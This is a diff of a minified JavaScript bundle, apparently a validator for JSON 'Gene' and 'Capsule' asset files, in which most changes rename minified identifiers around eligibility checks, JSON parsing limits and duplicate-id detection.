-ect"?"an object":typeof t!="string"?String(t):t.length<=ED?JSON.stringify(t):`a string of ${t.length} characters`}function vD(t,e,n,s={
-files:0,lines:0}){const{status:r,score:i}=RB(t.value.outcome),o=RB(t.value.blast_radius),a={capsule:t.id},c=(...l)=>zo(t,
+\` in the schema`}}function OB(t){return Array.isArray(t)?t.length===0?"an empty list":"a list":t!==null&&typeof t=="obj\
+ect"?"an object":typeof t!="string"?String(t):t.length<=bD?JSON.stringify(t):`a string of ${t.length} characters`}function ED(t,e,n,s={
+files:0,lines:0}){const{status:r,score:i}=SB(t.value.outcome),o=SB(t.value.blast_radius),a={capsule:t.id},c=(...l)=>zo(t,
 l),u=[];if(r!=="success"){const l=`\`outcome.status\` is ${Uo(r)}, but it must be "success"`;u.push((0,Oe.gk)("capsule-n\
-ot-eligible",{...a,why:l},c("outcome","status")))}if(!NB(i,n.min_score,1)){const l=`a number from ${n.min_score} to 1`,d=`\
+ot-eligible",{...a,why:l},c("outcome","status")))}if(!TB(i,n.min_score,1)){const l=`a number from ${n.min_score} to 1`,d=`\
 \`outcome.score\` is ${Uo(i)}, but it must be ${l}`;u.push((0,Oe.gk)("capsule-not-eligible",{...a,why:d},c("outcome","sc\
-ore")))}for(const l of["files","lines"]){const d=n[`max_${l}`],B=Math.max(s[l],e.radius?.[l]??0);if(NB(o[l],0,d)&&B<=d)continue;
-const f=Uo(o[l]),h=B>d?`${B} (claimed: ${f})`:f,m=`\`blast_radius.${l}\` is ${h}, but it must be ${$B(d)}`;u.push((0,Oe.
+ore")))}for(const l of["files","lines"]){const d=n[`max_${l}`],B=Math.max(s[l],e.radius?.[l]??0);if(TB(o[l],0,d)&&B<=d)continue;
+const f=Uo(o[l]),h=B>d?`${B} (claimed: ${f})`:f,m=`\`blast_radius.${l}\` is ${h}, but it must be ${AB(d)}`;u.push((0,Oe.
 gk)("capsule-not-eligible",{...a,why:m},c("blast_radius",l)))}if(e.unmeasured!==void 0){const l=`\`blast_radius.files\` is\
- not a size in the event \`${e.unmeasured}\`, but it must be ${$B(n.max_files)}`;u.push((0,Oe.gk)("capsule-not-eligible",
-{...a,why:l},c("blast_radius")))}return e.count<n.min_success_streak&&u.push(...DD(t,e,n.min_success_streak)),u}function $B(t){
-return`a number of at most ${t}`}function DD(t,{count:e,unread:n,failed:s,uncounted:r=[]},i){const o=zo(t),a={capsule:t.
+ not a size in the event \`${e.unmeasured}\`, but it must be ${AB(n.max_files)}`;u.push((0,Oe.gk)("capsule-not-eligible",
+{...a,why:l},c("blast_radius")))}return e.count<n.min_success_streak&&u.push(...kD(t,e,n.min_success_streak)),u}function AB(t){
+return`a number of at most ${t}`}function kD(t,{count:e,unread:n,failed:s,uncounted:r=[]},i){const o=zo(t),a={capsule:t.
 id};if(s!==void 0){const l=`the event \`${s}\`, the newest one that names it, is not a success`;return[(0,Oe.gk)("capsul\
 e-not-eligible",{...a,why:l},o)]}if(n!==void 0){const l=`whether the Capsule \`${t.id}\` has enough consecutive successes`;
-return[wv(l,n,{...o,severity:"error"})]}const c=r.slice(0,xD).map(({event:l,why:d})=>`the event \`${l}\` does not count: ${d}`),
-u={...a,streak:e,least:i,uncounted:c};return[(0,Oe.gk)("capsule-streak",u,o)]}const xD=5;function RB(t){return an(t)?t:{}}
-function NB(t,e,n){return typeof t=="number"&&t>=e&&t<=n}function Uo(t){return t===void 0?"missing":IB(t)}const OD="gep-\
-a2a",AD=new Set(["publish","report","fetch"]);function R2(t){return isJsonObject(t)&&t.protocol===OD}function N2({message_type:t}){
-return AD.has(t)}function SD({payload:t}){return isJsonObject(t)?t:{}}function F2({sender_id:t}){return typeof t=="strin\
-g"&&t.trim()!==""?t:void 0}const TD=new Set(["payload","asset"]),ID=null;function L2(t){const e=t.filter(({key:s})=>TD.has(
-s));return(e.length===0&&t.length===1?t:e).map(({asset:s})=>s)}function P2(t){const e={};for(const n of ID){const s=t[n];
+return[Cv(l,n,{...o,severity:"error"})]}const c=r.slice(0,vD).map(({event:l,why:d})=>`the event \`${l}\` does not count: ${d}`),
+u={...a,streak:e,least:i,uncounted:c};return[(0,Oe.gk)("capsule-streak",u,o)]}const vD=5;function SB(t){return cn(t)?t:{}}
+function TB(t,e,n){return typeof t=="number"&&t>=e&&t<=n}function Uo(t){return t===void 0?"missing":OB(t)}const DD="gep-\
+a2a",xD=new Set(["publish","report","fetch"]);function R2(t){return isJsonObject(t)&&t.protocol===DD}function N2({message_type:t}){
+return xD.has(t)}function OD({payload:t}){return isJsonObject(t)?t:{}}function F2({sender_id:t}){return typeof t=="strin\
+g"&&t.trim()!==""?t:void 0}const AD=new Set(["payload","asset"]),SD=null;function L2(t){const e=t.filter(({key:s})=>AD.has(
+s));return(e.length===0&&t.length===1?t:e).map(({asset:s})=>s)}function P2(t){const e={};for(const n of SD){const s=t[n];
 s!=null&&(e[n]=s)}return Object.keys(e).length>0?e:void 0}function j2({value:t,wrappers:e=[],envelope:n}){if(n===void 0&&
-e.length===0)return canonicalize(t);const{sender_id:s,signature:r}=n??{},i=n&&{sender_id:s,signature:[r,SD(n).signature]};
-return canonicalize([t,e,i])}const $D=new Map(Object.entries({genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"\
+e.length===0)return canonicalize(t);const{sender_id:s,signature:r}=n??{},i=n&&{sender_id:s,signature:[r,OD(n).signature]};
+return canonicalize([t,e,i])}const TD=new Map(Object.entries({genes:"Gene",capsules:"Capsule",events:"EvolutionEvent",evolution_events:"\
 EvolutionEvent",validation_reports:"ValidationReport",mutations:"Mutation"})),M2=new Set(["assets","results"]),G2=new Map(
 Object.entries({gene:"Gene",capsule:"Capsule",event:"EvolutionEvent",evolution_event:"EvolutionEvent",validation_report:"\
-ValidationReport",mutation:"Mutation"})),RD=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function H2(t){
-return ASSET_TYPES.includes(t)}function z2(t){return typeof t=="string"&&RD.has(t)}function U2(t){return Object.keys(t).
-some(e=>$D.has(e)&&Array.isArray(t[e]))}function J2(t,e){const n=new ND(e);for(const[s,r]of t.entries())n.visitTop(r,s);
-return n}class ND{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){this.#e=e}visitTop(e,n){this.#i||=e.cut===!0,
+ValidationReport",mutation:"Mutation"})),ID=new Set(["PersonalityState","MemoryGraphEvent","Selector","Task"]);function H2(t){
+return ASSET_TYPES.includes(t)}function z2(t){return typeof t=="string"&&ID.has(t)}function U2(t){return Object.keys(t).
+some(e=>TD.has(e)&&Array.isArray(t[e]))}function J2(t,e){const n=new $D(e);for(const[s,r]of t.entries())n.visitTop(r,s);
+return n}class $D{candidates=[];messages=[];#e;#t;#s=0;#i=!1;constructor(e){this.#e=e}visitTop(e,n){this.#i||=e.cut===!0,
 this.#n(e,"some_asset",[n])}#r(e,n,s,r){const i={node:e,pointer:n,value:s,type:r,...this.#t&&{envelope:this.#t}};return this.
 candidates.push(i),i}#n(e,n,s){if(isJsonObject(e.value))return this.#u(e,e.value,n,s);Array.isArray(e.value)?this.#c(e,n,
-s):n!=="anything"&&this.#d(e,n,FD(e.value))}#c({children:e=[]},n,s){for(const[r,i]of e.entries())this.#n(i,n,[...s,r])}#u(e,n,s,r){
+s):n!=="anything"&&this.#d(e,n,RD(e.value))}#c({children:e=[]},n,s){for(const[r,i]of e.entries())this.#n(i,n,[...s,r])}#u(e,n,s,r){
 const{type:i}=n;if(!isAssetType(i)&&!isCompanion(i))return this.#o(e,n,s,r);const o=isAssetType(i)?this.#r(e,r,n,i):void 0;
 return this.#h(e,r),o}#o(e,n,s,r){const i=isAssetType(s)?s:Array.isArray(n.validation)?"Gene":void 0;if(i===void 0)return this.#a(
-e,n,s,r);const o=FB(n.type);this.#d(e,s,`${o}; it is audited as ${withArticle(i)}`);const a=this.#r(e,r,n,i);return this.#h(
-e,r),a}#a(e,n,s,r){const i=FB(n.type),o=this.#t,a=isMessage(n);a&&(this.messages.push(e),this.#t=n);const c=this.candidates.
+e,n,s,r);const o=IB(n.type);this.#d(e,s,`${o}; it is audited as ${withArticle(i)}`);const a=this.#r(e,r,n,i);return this.#h(
+e,r),a}#a(e,n,s,r){const i=IB(n.type),o=this.#t,a=isMessage(n);a&&(this.messages.push(e),this.#t=n);const c=this.candidates.
 length+this.#s,u=(e.children??[]).flatMap(f=>{const h=f.key?.name??"",m=this.#B(f,[...r,h]);return m?[{key:h,asset:m}]:[]});
 this.#t=o,this.candidates.length+this.#s===c&&!a&&s==="some_asset"&&this.#d(e,s,i);const d=described(u),B=statementsIn(n);
 if(B)for(const f of d)f.wrappers=[...f.wrappers??[],B];return d.length===1?d[0]:void 0}#B(e,n){const s=LISTS.get(e.key?.
@@ -3295,22 +3297,22 @@ isArray(e.value)?this.#n(e,s,n):MIXED_LISTS.has(e.key?.name??"")?this.#p(e,n):th
 hing",n)}#p(e,n){return this.#n(e,Array.isArray(e.value)?"some_asset":"anything",n)}#h(e,n){for(const{key:s,value:r,children:i=[]}of e.
 children??[]){const o=LISTS.get(s?.name??"");if(!(!o||!Array.isArray(r)))for(const[a,c]of i.entries())isJsonObject(c.value)&&
 this.#n(c,o,[...n,s?.name??"",a])}}#d(e,n,s){if(this.#i)return;const r=isAssetType(n)?withArticle(n):"an asset";this.#e.
-add("not-an-asset",e,`expected ${r}, found ${s}`)}}function FD(t){return t===null?"null":`a ${typeof t}`}function FB(t){
+add("not-an-asset",e,`expected ${r}, found ${s}`)}}function RD(t){return t===null?"null":`a ${typeof t}`}function IB(t){
 return t===void 0?'an object without a "type"':typeof t!="string"?'an object whose "type" is not a string':`an object of\
- type ${JSON.stringify(t.slice(0,40))}`}var Z2=Te(547);function K2(t,e,n){return new LD(t,e,n).read()}class LD{#e;#t;#s;#i;#r=PB;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,n,s){
-this.#e=n,this.#t=s,this.#s=UD(e),this.#i=lfsObstacle(e)}read(){const e=[];let n=!1;for(this.#a();this.#r.kind!=="end";){
-const s=this.#r,r=LB.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!n&&!this.#o){n=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
+ type ${JSON.stringify(t.slice(0,40))}`}var Z2=Te(547);function K2(t,e,n){return new ND(t,e,n).read()}class ND{#e;#t;#s;#i;#r=RB;#n=0;#c=!1;#u=!1;#o=!1;constructor(e,n,s){
+this.#e=n,this.#t=s,this.#s=HD(e),this.#i=lfsObstacle(e)}read(){const e=[];let n=!1;for(this.#a();this.#r.kind!=="end";){
+const s=this.#r,r=$B.has(s.kind);if(s.kind==="{"||s.kind==="["||r&&!n&&!this.#o){n=!1,this.#c=!1,e.push(this.#B(0)),this.#u=
 !1;continue}n||(n=!0,this.#c=this.#o,this.#l(s.start===0&&this.#i||Jo("a JSON value",s))),this.#a()}return e}#a(){do{this.#r=
 this.#s();const{kind:e,start:n,fault:s}=this.#r;if(this.#n>this.#e.maxValues){const r=`more than ${this.#e.maxValues} JS\
-ON values; the rest is not read`;this.#t.add("file-too-large",this.#r,r),this.#r={...PB,start:n,end:n},this.#c=!0}else e===
-"comment"&&this.#l(s??jB(this.#r))}while(this.#r.kind==="comment")}#B(e){const n=this.#r,{kind:s,start:r,end:i}=n;if(this.#n+=
-1,n.fault&&this.#l(n.fault),s==="unknown"&&this.#l(Jo("a JSON value",n)),s!=="{"&&s!=="[")return this.#a(),{value:PD(n),
+ON values; the rest is not read`;this.#t.add("file-too-large",this.#r,r),this.#r={...RB,start:n,end:n},this.#c=!0}else e===
+"comment"&&this.#l(s??NB(this.#r))}while(this.#r.kind==="comment")}#B(e){const n=this.#r,{kind:s,start:r,end:i}=n;if(this.#n+=
+1,n.fault&&this.#l(n.fault),s==="unknown"&&this.#l(Jo("a JSON value",n)),s!=="{"&&s!=="[")return this.#a(),{value:FD(n),
 start:r,end:i};if(e<this.#e.maxDepth)return this.#p(e);const o=`brackets nested more than ${this.#e.maxDepth} deep`;this.#t.
 add("file-not-json",n,o);const a={value:null,start:r,end:this.#m()};return this.#a(),a}#p(e){const{kind:n,start:s,end:r}=this.#r,
 i=n==="{"?"}":"]",a={value:n==="{"?Object.create(null):[],start:s,end:r,children:[]};for(let c=",";c===",";c=this.#r.kind){
 if(this.#a(),this.#r.kind===i){a.children.length>0&&this.#l(`a comma before "${i}"`);break}if(this.#h(a,e),!this.#u&&this.#r.
 kind!==i&&this.#r.kind!==","&&this.#f(`"," or "${i}"`),this.#u)return{...a,end:this.#r.start,cut:!0}}return a.end=this.#r.
-end,this.#a(),a}#h({value:e,children:n},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,n);if(this.#u)return;if(!MD.has(
+end,this.#a(),a}#h({value:e,children:n},s){const r=Array.isArray(e),i=r?void 0:this.#d(e,n);if(this.#u)return;if(!PD.has(
 this.#r.kind)){this.#f("a JSON value");return}const o=this.#B(s+1);n.push(o),r&&e.push(o.value),i!==void 0&&(o.key=i,e[i.
 name]=o.value)}#d(e,n){const s=this.#r,{value:r,start:i,end:o}=s;if(s.kind!=="string")return this.#f("a key in double qu\
 otes");if(s.fault&&this.#l(s.fault),r==="__proto__")this.#t.add("ambiguous-key",s,'"__proto__" as a key');else if(Object.
@@ -3318,19 +3320,19 @@ hasOwn(e,r)&&!this.#t.full){const a=n.find(u=>u.key?.name===r)?.key,c=this.#t.pl
 -key",s,`${JSON.stringify(r)}, first at ${c}`)}return this.#a(),this.#r.kind!==":"?this.#f('":" after a key'):(this.#a(),
 {name:r,start:i,end:o})}#m(){let e=this.#r;for(let n=1;n>0&&e.kind!=="end";)e=this.#s(),(e.kind==="{"||e.kind==="[")&&(n+=
 1),(e.kind==="}"||e.kind==="]")&&(n-=1);return e.end}#f(e){this.#l(Jo(e,this.#r)),this.#u=!0,this.#o=!0}#l(e){this.#c||this.#t.
-add("file-not-json",this.#r,e),this.#c=!0}}function Jo(t,e){return`expected ${t}, found ${jB(e)}`}function PD({kind:t,value:e,
-fault:n}){return t==="string"?e:t==="number"?n?null:Number(e):t==="true"?!0:t==="false"?!1:null}const jD={1:"{",2:"}",3:"\
+add("file-not-json",this.#r,e),this.#c=!0}}function Jo(t,e){return`expected ${t}, found ${NB(e)}`}function FD({kind:t,value:e,
+fault:n}){return t==="string"?e:t==="number"?n?null:Number(e):t==="true"?!0:t==="false"?!1:null}const LD={1:"{",2:"}",3:"\
 [",4:"]",5:",",6:":",7:"null",8:"true",9:"false",10:"string",11:"number",12:"comment",13:"comment",16:"unknown",17:"end"},
-LB=new Set(["string","number","true","false","null"]),MD=new Set([...LB,"{","[","unknown"]),PB={kind:"end",start:0,end:0,
-value:""},GD=14,HD=15,zD={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
- without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function UD(t){
-const e=createScanner(t,!1);return()=>{let n=e.scan();for(;n===GD||n===HD;)n=e.scan();const s=jD[n]??"unknown",r=e.getTokenValue(),
-i=zD[e.getTokenError()]??JD(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),t.length),value:r,...i!==
-void 0&&{fault:i}}}}function JD(t,e){if(t==="comment")return"a comment";if(t==="number"&&!Number.isFinite(Number(e)))return"\
-a number out of range";if(t==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const ZD=/^(?:<{7}|={7}|>{7})$/;
-function jB({kind:t,value:e}){return t==="end"?"the end of the file":t==="string"||t==="number"||t==="comment"?`a ${t}`:
-t!=="unknown"?`"${t}"`:ZD.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const W2=Et(
-import.meta.url)("node:buffer");class q2{path;text;#e;#t;constructor(e,n,s=1){this.path=e,this.text=n,this.#e=s}location(e,n=e){
+$B=new Set(["string","number","true","false","null"]),PD=new Set([...$B,"{","[","unknown"]),RB={kind:"end",start:0,end:0,
+value:""},jD=14,MD=15,GD={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
+ without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function HD(t){
+const e=createScanner(t,!1);return()=>{let n=e.scan();for(;n===jD||n===MD;)n=e.scan();const s=LD[n]??"unknown",r=e.getTokenValue(),
+i=GD[e.getTokenError()]??zD(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),t.length),value:r,...i!==
+void 0&&{fault:i}}}}function zD(t,e){if(t==="comment")return"a comment";if(t==="number"&&!Number.isFinite(Number(e)))return"\
+a number out of range";if(t==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const UD=/^(?:<{7}|={7}|>{7})$/;
+function NB({kind:t,value:e}){return t==="end"?"the end of the file":t==="string"||t==="number"||t==="comment"?`a ${t}`:
+t!=="unknown"?`"${t}"`:UD.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const q2=Et(
+import.meta.url)("node:buffer");class W2{path;text;#e;#t;constructor(e,n,s=1){this.path=e,this.text=n,this.#e=s}location(e,n=e){
 const s=this.#s(e),r=this.#s(Math.max(e,n));return{path:this.path,...s,end_line:r.line,end_column:r.column}}#s(e){const n=this.#t??
 this.#i();let s=0;for(let r=n.length;r-s>1;){const i=s+r>>>1;(n[i]??0)<=e?s=i:r=i}return{line:s+this.#e,column:e-(n[s]??
 0)+1}}#i(){const e=[0];for(let n=this.text.indexOf(`
@@ -3340,31 +3342,31 @@ found.length>Zo}place(e){const{line:n,column:s}=this.#e.location(e);return`line 
 if(this.full)return;const o=this.#e.location(n,s);this.found.push(this.found.length<Zo?{rule:e,location:o,detail:r,...i!==
 void 0&&{id:i}}:{rule:"file-too-large",location:o,detail:`more than ${Zo} problems; the rest is not listed`})}}function Y2(t){
 const e=new TextDecoder("utf-8").decode(t);return isUtf8(t)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}
-function X2(t,e,n,s=1){if(e.length>n.maxBytes)return qD(t,e.length,n);const{text:r,complete:i}=decodeUtf8(e),o=new Source(
+function X2(t,e,n,s=1){if(e.length>n.maxBytes)return KD(t,e.length,n);const{text:r,complete:i}=decodeUtf8(e),o=new Source(
 t,r,s),a=new Problems(o);if(!i){const f={start:r.length,end:r.length};return a.add("file-not-utf8",f,"a byte that no UTF\
 -8 text can have here"),{path:t,assets:[],problems:a.found}}const c=readJson(r,n,a);c.length===0&&a.found.length===0&&!Ko(
-t)&&a.add("file-not-json",{start:0,end:0},"expected a JSON value, found an empty file");const{candidates:u,messages:l}=MB(
-o,c,n,a),d=GB(u,o,a),B=l.map(f=>({value:f.value,location:zB(o,f,[])}));return{path:t,assets:d,problems:a.found,...Ko(t)&&
-e[0]!==KD&&WD(c,o)&&{lines:!0},...B.length>0&&{messages:B}}}function Q2(t,e,n){const s=new Source(t,e),r=new Problems(s),
-{candidates:i}=MB(s,readJson(e,n,r),n,r),o=GB(i,s,r);return i.flatMap(({node:a},c)=>{const u=o[c];return u?{asset:u,node:a}:
-[]})}function MB({path:t},e,{maxAssets:n},s){const{candidates:r,messages:i}=findCandidates(e,s),o=r[n];o&&s.add("file-to\
+t)&&a.add("file-not-json",{start:0,end:0},"expected a JSON value, found an empty file");const{candidates:u,messages:l}=FB(
+o,c,n,a),d=LB(u,o,a),B=l.map(f=>({value:f.value,location:jB(o,f,[])}));return{path:t,assets:d,problems:a.found,...Ko(t)&&
+e[0]!==JD&&ZD(c,o)&&{lines:!0},...B.length>0&&{messages:B}}}function Q2(t,e,n){const s=new Source(t,e),r=new Problems(s),
+{candidates:i}=FB(s,readJson(e,n,r),n,r),o=LB(i,s,r);return i.flatMap(({node:a},c)=>{const u=o[c];return u?{asset:u,node:a}:
+[]})}function FB({path:t},e,{maxAssets:n},s){const{candidates:r,messages:i}=findCandidates(e,s),o=r[n];o&&s.add("file-to\
 o-large",o.node,`more than ${n} assets; the rest is not read`);const a=Ko(t)||e.length>1;return{candidates:r.slice(0,n).
-map(u=>a?u:{...u,pointer:u.pointer.slice(1)}),messages:i}}const KD=239;function WD(t,e){let n=0;return t.every(({start:s,
-end:r})=>{const{line:i,end_line:o}=e.location(s,r),a=i===o&&i>n;return n=i,a})}function qD(t,e,{maxBytes:n}){const s=`${e}\
+map(u=>a?u:{...u,pointer:u.pointer.slice(1)}),messages:i}}const JD=239;function ZD(t,e){let n=0;return t.every(({start:s,
+end:r})=>{const{line:i,end_line:o}=e.location(s,r),a=i===o&&i>n;return n=i,a})}function KD(t,e,{maxBytes:n}){const s=`${e}\
  bytes, of at most ${n}`;return{path:t,assets:[],problems:[{rule:"file-too-large",location:{path:t,line:1,column:1},detail:s}]}}
 function ez(t,e){const n={path:t,line:1,column:1},s=whyNotJudged(`the file \`${t}\``,e);return{path:t,assets:[],problems:[
-{rule:"not-judged",location:n,detail:s}]}}function Ko(t){return t.toLowerCase().endsWith(".jsonl")}function GB(t,e,n){const s=new Map,
-r=new Map,i=t.map((o,a)=>{const{node:c,pointer:u,value:l,type:d,envelope:B,wrappers:f}=o,h=HB(l),m=h??`#${a+1}`,g=s.get(
-`${d} ${m}`),C=h!==void 0&&g!==void 0&&VD(o,g);if(h===void 0){const b=Object.hasOwn(l,"id")?'with an "id" that is not te\
+{rule:"not-judged",location:n,detail:s}]}}function Ko(t){return t.toLowerCase().endsWith(".jsonl")}function LB(t,e,n){const s=new Map,
+r=new Map,i=t.map((o,a)=>{const{node:c,pointer:u,value:l,type:d,envelope:B,wrappers:f}=o,h=PB(l),m=h??`#${a+1}`,g=s.get(
+`${d} ${m}`),C=h!==void 0&&g!==void 0&&qD(o,g);if(h===void 0){const b=Object.hasOwn(l,"id")?'with an "id" that is not te\
 xt':'without an "id"',y=`${withArticle(d)} ${b}; it is called ${m} here`;c.cut||n.add("not-an-asset",c,y,m)}else if(C)r.
 set(g,(r.get(g)??1)+1);else if(g){const b=`${d} ${JSON.stringify(m)}, first at ${n.place(g.node.start)}`;n.add("duplicat\
 e-id",c,b,m)}else s.set(`${d} ${m}`,o);return{type:d,id:m,path:e.path,value:l,pointer:u,...c.cut&&{cut:!0},...B&&{envelope:B},
-...f&&{wrappers:f},...C&&{copy:!0},locate:(b=[],y)=>zB(e,c,b,y)}});for(const[{node:o,type:a,value:c},u]of r){const l=HB(
-c);n.add("duplicate-copy",o,`${a} ${JSON.stringify(l)}, ${u} times`,l)}return i}function VD(t,e){const n=s=>!s.node.cut&&
-!s.envelope;return n(t)&&n(e)&&statedContent(t)===statedContent(e)}function HB({id:t}){return typeof t=="string"&&t.trim()!==
-""?t:void 0}function zB(t,e,n,s){let r=e;for(const i of n){const o=YD(r,i);if(!o)return t.location(r.start,r.end);r=o}return!s||
-typeof r.value!="string"?t.location(r.start,r.end):t.location(UB(t.text,r,s.start),UB(t.text,r,s.end))}function YD({value:t,
-children:e},n){return Array.isArray(t)?typeof n=="number"?e?.[n]:void 0:e?.findLast(({key:s})=>s?.name===n)}function UB(t,{
+...f&&{wrappers:f},...C&&{copy:!0},locate:(b=[],y)=>jB(e,c,b,y)}});for(const[{node:o,type:a,value:c},u]of r){const l=PB(
+c);n.add("duplicate-copy",o,`${a} ${JSON.stringify(l)}, ${u} times`,l)}return i}function qD(t,e){const n=s=>!s.node.cut&&
+!s.envelope;return n(t)&&n(e)&&statedContent(t)===statedContent(e)}function PB({id:t}){return typeof t=="string"&&t.trim()!==
+""?t:void 0}function jB(t,e,n,s){let r=e;for(const i of n){const o=WD(r,i);if(!o)return t.location(r.start,r.end);r=o}return!s||
+typeof r.value!="string"?t.location(r.start,r.end):t.location(MB(t.text,r,s.start),MB(t.text,r,s.end))}function WD({value:t,
+children:e},n){return Array.isArray(t)?typeof n=="number"?e?.[n]:void 0:e?.findLast(({key:s})=>s?.name===n)}function MB(t,{
 start:e,end:n},s){const r=n-1;let i=e+1;for(let o=0;o<s&&i<r;o+=1)t[i]!=="\\"?i+=1:i+=t[i+1]==="u"?6:2;return Math.min(i,
 r)}const tz={"1124af25050b3a2777b00fe527f25c37":"1.7.0","0ae9f4172d143cac2f316f08d0855038":"1.14.0","6298d2870e2f48a9ca4\
 47e3c80d09df5":"1.7.0",aec44b6e270d0df1467ca8b6421dfa56:"1.14.0",a439632ca376509abf5cd66745ebb667:"1.94.0",f2e2fdbe0cfdd670c6ae2ab38a9cf719:"\
@@ -3381,170 +3383,1825 @@ d05809035d":"1.69.13","88deb4b8eefea45bd47b036c5ee81444":"1.89.20","581eb030144d
 1.66.0","1f3af73d38e6323fff6adb530dabe346":"1.89.20",bafad883b2a2cc8a11d902d1d920f501:"1.89.20","67abc3346b96ee2143867db\
 19b637205":"1.89.20",c7208554a1f367a1dbc09317442aa219:"1.89.20","111330940cef16ea3cfd134161b59244":"1.89.20",ec199ceb43ac39756c4fb0987a81ac06:"\
 1.66.0","5fec6e038ba05b4992ed65b4235dd52c":"1.89.20"};function nz({value:t,envelope:e}){if(e===void 0)return SEED_HASHES[hash(
-"sha256",canonicalize(t)).slice(0,32)]}const XD=/\.seed\.json$/;function sz({head:t,base:e,untouched:n},s){const r=(c,u)=>c.
-filter(({path:l})=>XD.test(l)===u).flatMap(({assets:l})=>l).filter(({type:l,value:d})=>l==="Gene"&&declaredId(d)!==void 0),
+"sha256",canonicalize(t)).slice(0,32)]}const VD=/\.seed\.json$/;function sz({head:t,base:e,untouched:n},s){const r=(c,u)=>c.
+filter(({path:l})=>VD.test(l)===u).flatMap(({assets:l})=>l).filter(({type:l,value:d})=>l==="Gene"&&declaredId(d)!==void 0),
 i=new Set(r(e,!0).map(({id:c})=>c));if(i.size===0)return[];const o=new Set(r([...e,...n],!1).map(({id:c})=>c)),a=new Set(
 s.map(({asset:c})=>c));return r(t,!1).filter(c=>i.has(c.id)&&!o.has(c.id)&&!a.has(c))}function rz({value:t}){const e=typeof t.
-asset_id=="string"?e0(t.asset_id):void 0,n=i=>computeAssetId(i)===`sha256:${e}`;return n(t)?"unprefixed":t.type==="Gene"&&
-t.epigenetic_marks!==void 0&&n({...ZB(t),epigenetic_marks:[]})?"created":void 0}const JB={env_fingerprint:["region"],Capsule:[
-"diff","strategy"]};function QD(t){const n=JB.Capsule.filter(r=>t.type==="Capsule"&&!(r in t)).reduce((r,i)=>r.flatMap(o=>[
-o,{...o,[i]:null}]),[{}]);return[t,Wo(t)].flatMap(r=>n.map(i=>({...r,...i}))).find(r=>dr(r)===t.asset_id)}function Wo(t){
-if(Array.isArray(t))return t.map(Wo);if(!an(t))return t;const e=Object.entries(t).map(([n,s])=>{const r=Wo(s),[i]=JB.env_fingerprint,
-o=n==="env_fingerprint"&&an(r)&&!(i in r);return[n,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function iz({value:t},e){
-if(t.type!=="Gene"||e===void 0)return!1;const[n,s]=[t,e.value].map(r=>{const{schema_version:i,asset_id:o,...a}=ZB(r);return canonicalize(
-a)});return n===s}function ZB(t){const{epigenetic_marks:e,learning_history:n,anti_patterns:s,...r}=t;return r}function e0(t){
-const e=t.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const t0=new Set(["Ge\
+asset_id=="string"?XD(t.asset_id):void 0,n=i=>computeAssetId(i)===`sha256:${e}`;return n(t)?"unprefixed":t.type==="Gene"&&
+t.epigenetic_marks!==void 0&&n({...HB(t),epigenetic_marks:[]})?"created":void 0}const GB={env_fingerprint:["region"],Capsule:[
+"diff","strategy"]};function YD(t){const n=GB.Capsule.filter(r=>t.type==="Capsule"&&!(r in t)).reduce((r,i)=>r.flatMap(o=>[
+o,{...o,[i]:null}]),[{}]);return[t,qo(t)].flatMap(r=>n.map(i=>({...r,...i}))).find(r=>dr(r)===t.asset_id)}function qo(t){
+if(Array.isArray(t))return t.map(qo);if(!cn(t))return t;const e=Object.entries(t).map(([n,s])=>{const r=qo(s),[i]=GB.env_fingerprint,
+o=n==="env_fingerprint"&&cn(r)&&!(i in r);return[n,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function iz({value:t},e){
+if(t.type!=="Gene"||e===void 0)return!1;const[n,s]=[t,e.value].map(r=>{const{schema_version:i,asset_id:o,...a}=HB(r);return canonicalize(
+a)});return n===s}function HB(t){const{epigenetic_marks:e,learning_history:n,anti_patterns:s,...r}=t;return r}function XD(t){
+const e=t.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const QD=new Set(["Ge\
 ne","Capsule","EvolutionEvent"]);function Pn(t){const{type:e,value:n}=t,s=n.asset_id;return s===ls(t.value)?"content":e===
-"Capsule"&&s===ls(r0(n))?"hub":typeof s=="string"&&QD(n)?"engine":void 0}function oz(t,e){const{type:n,value:s}=t;if(!t0.
-has(n))return KB(t,e);const r=WB(t,e),i=placeOf(t),o=s.asset_id===void 0?ls(t.value):void 0;return[...s.schema_version===
-void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?KB(t,e):[finding("content-hash-missing",{...r,expected:o},
-i)]]}function az({rule:t}){return t==="schema-version-missing"||t==="content-hash-missing"}function KB(t,e,n=!1,s){const{
+"Capsule"&&s===ls(n0(n))?"hub":typeof s=="string"&&YD(n)?"engine":void 0}function oz(t,e){const{type:n,value:s}=t;if(!QD.
+has(n))return zB(t,e);const r=UB(t,e),i=placeOf(t),o=s.asset_id===void 0?ls(t.value):void 0;return[...s.schema_version===
+void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?zB(t,e):[finding("content-hash-missing",{...r,expected:o},
+i)]]}function az({rule:t}){return t==="schema-version-missing"||t==="content-hash-missing"}function zB(t,e,n=!1,s){const{
